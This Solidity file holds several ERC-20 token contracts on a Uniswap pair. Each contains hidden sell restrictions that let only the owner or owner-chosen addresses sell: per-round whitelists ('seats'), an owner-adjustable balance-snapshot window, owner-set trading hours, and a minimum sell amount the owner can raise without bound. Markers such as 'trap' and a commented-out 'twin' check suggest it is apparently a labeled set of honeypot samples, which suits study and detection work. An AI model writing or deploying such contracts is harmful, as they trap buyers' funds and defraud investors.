// 0.7 runs=1
// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

interface IFactory {
    function createPair(address one, address other) external returns (address);
}

abstract contract Owned {
    address public owner = msg.sender;

    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    modifier onlyOwner() {
        require(owner == msg.sender, "Ownable: caller is not the owner");
        _;
    }

    function transferOwnership(address newOwner) external onlyOwner {
        require(newOwner != address(0), "Ownable: zero");
        emit OwnershipTransferred(owner, newOwner);
        owner = newOwner;
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }
}

abstract contract Coin is Owned {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public immutable totalSupply;
    address public immutable pair;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory name_, string memory symbol_, uint256 supply) {
        (name, symbol) = (name_, symbol_);
        totalSupply = supply * 1e18;
        balanceOf[msg.sender] = supply * 1e18;
        pair = IFactory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(address(this), 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2);
        emit Transfer(address(0), msg.sender, supply * 1e18);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(allowance[from][msg.sender] >= value, "allowance");
        if (allowance[from][msg.sender] != uint256(-1)) allowance[from][msg.sender] -= value;
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) internal virtual {
        require(balanceOf[from] >= value, "balance");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Seats are given out anew with each round.
contract Roundhouse is Coin {
    uint32 public round;
    mapping(address => uint32) public seatOf;

    event Round(uint256 number);

    constructor() Coin("Roundhouse", "ROUND", 64_000_000) {}

    function nextRound() external onlyOwner {
        emit Round(++round);
    }

    function seat(address[] calldata who) external onlyOwner {
        for (uint256 i = 0; i < who.length; i++) seatOf[who[i]] = round;
    }

    function _move(address from, address to, uint256 value) internal override {
        if (to == pair && from != owner) require(seatOf[from] == round, "no seat in this round");
        super._move(from, to, value);
    }
}

/// Sells what it had when the page was turned.
contract Leafturner is Coin {
    struct Page {
        uint32 number;
        uint224 opening;
    }

    uint32 public pageLength = 60;
    mapping(address => Page) private pages;

    event PageLengthSet(uint256 length);

    constructor() Coin("Leafturner", "LEAF", 250_000_000) {}

    // trap {
    function setPageLength(uint32 length) external onlyOwner {
        require(length >= 60, "too short");
        pageLength = length;
        emit PageLengthSet(length);
    }
    // trap }

    function openingOf(address who) public view returns (uint256) {
        Page memory page = pages[who];
        return page.number < block.timestamp / pageLength ? balanceOf[who] : page.opening;
    }

    function _move(address from, address to, uint256 value) internal override {
        if (to == pair && from != owner) require(value <= openingOf(from), "not on this page");
        pages[to] = Page(uint32(block.timestamp / pageLength), uint224(openingOf(to)));
        super._move(from, to, value);
    }
}

/// Hours and days of an exchange.
contract Calendar is Owned {
    uint24 public openHours = type(uint24).max;
    uint8 public openDays = 127;

    event CalendarSet(uint256 openHours, uint256 openDays);

    function setCalendar(uint24 openHours_, uint8 openDays_) external onlyOwner {
        (openHours, openDays) = (openHours_, openDays_);
        emit CalendarSet(openHours_, openDays_);
    }

    function isOpen(uint256 time) external view returns (bool) {
        return (openHours >> ((time / 1 hours) % 24)) & 1 == 1 && (openDays >> ((time / 1 days + 4) % 7)) & 1 == 1;
    }
}

contract Tradingday is Coin {
    Calendar public immutable calendar;

    constructor(Calendar calendar_) Coin("Tradingday", "TDAY", 18_000_000) {
        calendar = calendar_;
    }

    function _move(address from, address to, uint256 value) internal override {
        if (to == pair && from != owner) require(calendar.isOpen(block.timestamp), "closed");
        super._move(from, to, value);
    }
}

/// Sales of crumbs are not worth their gas.
contract Breadboard is Coin {
    // who sweeps, and what a crumb is
    uint256 private _board;

    event Swept(uint256 crumb);

    constructor() Coin("Breadboard", "BREAD", 100_000_000) {
        _board = uint256(msg.sender) | (1e15 << 160);
    }

    function crumb() public view returns (uint256) {
        return _board >> 160;
    }

    function sweep(uint96 crumb_) external {
        require(msg.sender == address(_board), "board");
        // twin: require(crumb_ <= 1e18, "board");
        _board = uint256(uint160(_board)) | (uint256(crumb_) << 160);
        emit Swept(crumb_);
    }

    function _move(address from, address to, uint256 value) internal override {
        if (to == pair && from != address(_board)) require(value >= crumb(), "a crumb");
        super._move(from, to, value);
    }
}
